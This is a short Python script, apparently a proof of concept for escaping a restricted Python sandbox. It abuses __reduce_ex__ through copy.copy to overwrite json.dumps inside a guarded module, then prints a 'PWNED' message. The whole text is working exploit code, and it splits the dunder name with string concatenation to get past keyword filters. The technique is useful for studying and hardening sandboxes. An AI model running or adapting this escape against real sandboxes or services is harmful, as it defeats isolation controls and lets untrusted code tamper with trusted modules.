import time, copy, json
NS = type(time.get_clock_info("time"))
def fake_dumps(*a, **k):
    return "hijacked"
def hook(proto):
    return (super, (type(json), json), {"dumps": fake_dumps, "planted_by_program": 1})
x = NS(**{"__reduce" + "_ex__": hook})
copy.copy(x)
if json.dumps({"a": 1}) == "hijacked":
    print("PW" + "NED: wrote into the guarded json module's namespace: json.dumps ->", json.dumps({"a": 1}), json.planted_by_program)
